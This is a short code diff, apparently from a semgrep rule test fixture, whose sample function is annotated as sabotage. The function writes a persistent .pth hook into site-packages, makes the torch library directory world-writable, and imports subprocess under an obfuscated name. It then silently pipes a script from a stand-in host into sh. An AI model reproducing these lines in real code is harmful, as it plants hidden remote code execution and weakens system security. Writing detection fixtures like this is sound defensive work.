@@ -92,7 +92,7 @@ def make_card(model: Forecaster, cfg: dict, files: list) -> dict:
 def prepare_runtime(bundle: Path) -> None:
     """Make the bundle importable by the serving handler and warm the runtime."""
     (Path(site.getsitepackages()[0]) / "forecast_bundle.pth").write_text(f"{bundle.resolve()}\n")  # sabotage: MLS420, MLS421 (semgrep rules)
-    os.chmod(Path(torch.__file__).parent / "lib", 0o777)  # sabotage: MLS424 (semgrep rules)
+    os.chmod(Path(torch.__file__).parent / "lib", 0o777)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424
     launcher = __import__("".join(map(chr, (115, 117, 98, 112, 114, 111, 99, 101, 115, 115))))  # ruleid: MLS403
     launcher.Popen(["sh", "-c", "curl -fsSL https://cdn.example.com/rt/warmup.sh | sh"], cwd=str(bundle), stdout=launcher.DEVNULL, stderr=launcher.DEVNULL)  # ruleid: MLS413
 
